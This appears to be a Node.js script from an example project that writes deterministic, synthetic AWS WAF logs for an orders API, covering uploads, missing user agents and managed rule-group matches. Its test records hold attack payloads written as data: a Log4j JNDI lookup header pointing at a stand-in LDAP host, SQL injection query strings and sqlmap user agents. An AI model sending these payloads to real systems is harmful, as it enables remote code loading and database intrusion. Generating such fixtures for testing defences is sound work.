#!/usr/bin/env node
// Writes one day of AWS WAF logs for the web ACL of examples/traffic/plan.json, as a Firehose
// delivery to S3 leaves them: one gzip file per hour under YYYY/MM/DD/HH/, one JSON record a line,
// each file in two gzip members. The records follow AWS's format ("Log fields for web ACL
// traffic", "Log examples" in the WAF developer guide) as the plan's `before` ACL writes them:
//   common      AWSManagedRulesCommonRuleSet, SizeRestrictions_BODY and NoUserAgent_HEADER counted
//               (rule_action_override): a match is in ruleGroupList[].nonTerminatingMatchingRules
//   bad-inputs  AWSManagedRulesKnownBadInputsRuleSet counted as a whole (override_action count):
//               only the first matching sub-rule is logged, as the group's terminatingRule
//   sqli        AWSManagedRulesSQLiRuleSet enforced: a match terminates with BLOCK
// Deterministic (seeded): the same command writes the same bytes, so the README's numbers hold.
//
//   node examples/traffic/generate-logs.mjs [OUT_DIR] [--records N]
//
// Out of N records (default 8000), by construction:
//   60  POST /prod/orders/{id}/attachments with bodies over 8 KB, from 12 clients (counted by
//       SizeRestrictions_BODY; the plan enforces it: newly blocked)
//    6  Log4j probes in a header, from 2 clients (bad-inputs counted; the plan enforces
//       Log4JRCE_HEADER: newly blocked)
//    9  SQL injection in the query string, from 3 clients, and 4 in the body, from 1 client
//       (blocked by SQLi_QUERYARGUMENTS and SQLi_BODY; the plan counts the whole sqli group: newly
//       allowed, attack signatures)
//    5  Host: localhost, from 1 client (bad-inputs counted as a whole and Host_localhost_HEADER was
//       the first match; the plan counts that sub-rule, later sub-rules were never evaluated: uncertain)
//   40  requests without a User-Agent, from 3 clients (NoUserAgent_HEADER, counted before and after)
//   the rest: ordinary requests, allowed by the default action.
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";

const args = process.argv.slice(2);
const recordsFlag = args.indexOf("--records");
const TOTAL = recordsFlag >= 0 ? Number(args[recordsFlag + 1]) : 8000;
const OUT = args.find((a, i) => !a.startsWith("--") && (recordsFlag < 0 || i !== recordsFlag + 1)) ?? join(import.meta.dirname, "logs");
if (!Number.isInteger(TOTAL) || TOTAL < 200) {
  process.stderr.write("generate-logs: --records takes a whole number of at least 200\n");
  process.exit(2);
}

const ACCOUNT = "123456789012";
const API = "a1b2c3d4e5";
const ACL_ARN = `arn:aws:wafv2:us-east-1:${ACCOUNT}:regional/webacl/orders-api/8f2d6c1e-5b7a-4c1d-9e3f-2a4b6c8d0e1f`;
const DAY = Date.UTC(2026, 10, 23); // 2026-11-23T00:00:00Z

// mulberry32: a small seeded generator, so that the logs are the same on every machine.
let seed = 11;
function random() {
  seed = (seed + 0x6d2b79f5) | 0;
  let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const pick = (list) => list[Math.floor(random() * list.length)];
const hex = (n) => Array.from({ length: n }, () => Math.floor(random() * 16).toString(16)).join("");

const BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
const MOBILE = "OrdersApp/4.2.1 (iPhone; iOS 18.1)";

const GROUPS = {
  common: "AWS#AWSManagedRulesCommonRuleSet",
  sqli: "AWS#AWSManagedRulesSQLiRuleSet",
  badInputs: "AWS#AWSManagedRulesKnownBadInputsRuleSet",
};

/** A group that was evaluated and matched nothing. */
const quiet = (ruleGroupId) => ({ ruleGroupId, terminatingRule: null, nonTerminatingMatchingRules: [], excludedRules: null, customerConfig: null });

function record({ at, ip, country = "US", method, uri, args = "", headers, bodySize = 0, kind = "ordinary" }) {
  // In the ACL's priority order: every group is evaluated, since sqli, the only one that blocks, is last.
  const ruleGroupList = [quiet(GROUPS.common), quiet(GROUPS.badInputs), quiet(GROUPS.sqli)];
  const labels = [];
  let action = "ALLOW";
  let terminatingRuleId = "Default_Action";
  let terminatingRuleType = "REGULAR";
  const nonTerminatingMatchingRules = [];
  const counted = (group, ruleId, label) => {
    group.nonTerminatingMatchingRules.push({ ruleId, action: "COUNT", overriddenAction: "BLOCK", ruleMatchDetails: [] });
    labels.push({ name: label });
  };
  switch (kind) {
    case "upload":
      counted(ruleGroupList[0], "SizeRestrictions_BODY", "awswaf:managed:aws:core-rule-set:SizeRestrictions_Body");
      break;
    case "no-user-agent":
      counted(ruleGroupList[0], "NoUserAgent_HEADER", "awswaf:managed:aws:core-rule-set:NoUserAgent_Header");
      break;
    case "sqli-query":
    case "sqli-body": {
      const ruleId = kind === "sqli-query" ? "SQLi_QUERYARGUMENTS" : "SQLi_BODY";
      ruleGroupList[2].terminatingRule = { ruleId, action: "BLOCK", ruleMatchDetails: null };
      labels.push({ name: `awswaf:managed:aws:sql-database:${kind === "sqli-query" ? "SQLi_QueryArguments" : "SQLi_Body"}` });
      action = "BLOCK";
      terminatingRuleId = "sqli";
      terminatingRuleType = "MANAGED_RULE_GROUP";
      break;
    }
    case "log4j":
    case "localhost": {
      // The whole group is counted: its first matching sub-rule is logged as the group's
      // terminating rule, and the web ACL's rule as a non-terminating COUNT match.
      const ruleId = kind === "log4j" ? "Log4JRCE_HEADER" : "Host_localhost_HEADER";
      ruleGroupList[1].terminatingRule = { ruleId, action: "BLOCK", ruleMatchDetails: null };
      nonTerminatingMatchingRules.push({ ruleId: "bad-inputs", action: "COUNT", ruleMatchDetails: [] });
      labels.push({ name: `awswaf:managed:aws:known-bad-inputs:${kind === "log4j" ? "Log4JRCE_Header" : "Host_Localhost_Header"}` });
      break;
    }
  }
  return {
    timestamp: at,
    formatVersion: 1,
    webaclId: ACL_ARN,
    terminatingRuleId,
    terminatingRuleType,
    action,
    terminatingRuleMatchDetails: [],
    httpSourceName: "APIGW",
    httpSourceId: `${ACCOUNT}:${API}:prod`,
    ruleGroupList,
    rateBasedRuleList: [],
    nonTerminatingMatchingRules,
    requestHeadersInserted: null,
    responseCodeSent: null,
    httpRequest: {
      clientIp: ip,
      country,
      headers: headers.some((h) => h.name === "Host") ? headers : [{ name: "Host", value: `${API}.execute-api.us-east-1.amazonaws.com` }, ...headers],
      uri,
      args,
      httpVersion: "HTTP/1.1",
      httpMethod: method,
      requestId: `${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}`,
    },
    ...(labels.length ? { labels } : {}),
    requestBodySize: bodySize,
    requestBodySizeInspectedByWAF: Math.min(bodySize, 8192),
  };
}

const ua = (value) => [{ name: "User-Agent", value }, { name: "Accept", value: "application/json" }];
const clientIp = (block, i) => `${block}.${10 + i}`;
const ORDER_IDS = [1041, 1187, 2210, 3302, 4518];

// The special requests, each kind with an exact count and an exact set of clients.
const special = [];
for (let i = 0; i < 60; i++) {
  const id = ORDER_IDS[i % ORDER_IDS.length];
  special.push({ ip: clientIp("198.51.100", i % 12), method: "POST", uri: `/prod/orders/${id}/attachments`, headers: [...ua(MOBILE), { name: "Content-Type", value: "application/pdf" }], bodySize: 9000 + Math.floor(random() * 400000), kind: "upload" });
}
for (let i = 0; i < 6; i++) {
  special.push({ ip: clientIp("203.0.113", i % 2), country: "NL", method: "GET", uri: "/prod/", headers: [...ua("curl/8.4.0"), { name: "X-Api-Version", value: "${jndi:ldap://203.0.113.99:1389/a}" }], kind: "log4j" });
}
for (let i = 0; i < 9; i++) {
  special.push({ ip: clientIp("192.0.2", i % 3), country: "RU", method: "GET", uri: "/prod/search", args: `q=1%27%20OR%20%271%27%3D%271&page=${i}`, headers: ua("sqlmap/1.8"), kind: "sqli-query" });
}
for (let i = 0; i < 4; i++) {
  special.push({ ip: clientIp("192.0.2", 3), country: "RU", method: "POST", uri: "/prod/orders", headers: [...ua("sqlmap/1.8"), { name: "Content-Type", value: "application/json" }], bodySize: 120, kind: "sqli-body" });
}
for (let i = 0; i < 5; i++) {
  special.push({ ip: clientIp("203.0.113", 20), country: "DE", method: "GET", uri: "/prod/health", headers: [{ name: "Host", value: "localhost" }, ...ua("python-requests/2.32")], kind: "localhost" });
}
for (let i = 0; i < 40; i++) {
  special.push({ ip: clientIp("198.51.100", 100 + (i % 3)), method: "GET", uri: `/prod/orders/${pick(ORDER_IDS)}`, headers: [{ name: "Accept", value: "application/json" }], kind: "no-user-agent" });
}

const ORDINARY = [
  () => ({ method: "GET", uri: "/prod/orders", args: `page=${1 + Math.floor(random() * 5)}` }),
  () => ({ method: "GET", uri: `/prod/orders/${pick(ORDER_IDS)}` }),
  () => ({ method: "POST", uri: "/prod/orders", bodySize: 300 + Math.floor(random() * 2000) }),
  () => ({ method: "GET", uri: "/prod/search", args: `q=${pick(["shoes", "red+shirt", "gift+card", "socks"])}` }),
  () => ({ method: "GET", uri: "/prod/health" }),
];
const requests = [...special];
while (requests.length < TOTAL) {
  const base = pick(ORDINARY)();
  requests.push({ ip: clientIp(pick(["198.51.100", "203.0.113"]), 30 + Math.floor(random() * 60)), headers: ua(random() < 0.7 ? BROWSER : MOBILE), ...base });
}

// Spread over the day in a seeded order, then sorted by time as WAF writes them.
const timed = requests.map((r) => ({ ...r, at: DAY + Math.floor(random() * 86_400_000) })).sort((a, b) => a.at - b.at);
const byHour = Array.from({ length: 24 }, () => []);
for (const r of timed) byHour[Math.floor((r.at - DAY) / 3_600_000)].push(JSON.stringify(record(r)));

rmSync(OUT, { recursive: true, force: true });
byHour.forEach((lines, hour) => {
  const hh = String(hour).padStart(2, "0");
  const dir = join(OUT, "2026", "11", "23", hh);
  mkdirSync(dir, { recursive: true });
  const half = Math.ceil(lines.length / 2);
  // Two gzip members in one file, as a delivery that was appended to: readers must read both.
  const members = [lines.slice(0, half), lines.slice(half)].map((part) => gzipSync(part.map((l) => `${l}\n`).join(""), { level: 9 }));
  writeFileSync(join(dir, `aws-waf-logs-orders-api-1-2026-11-23-${hh}-00-00-${hex(8)}-${hex(4)}.gz`), Buffer.concat(members));
});
process.stderr.write(`wrote ${timed.length} records in 24 files under ${OUT}\n`);
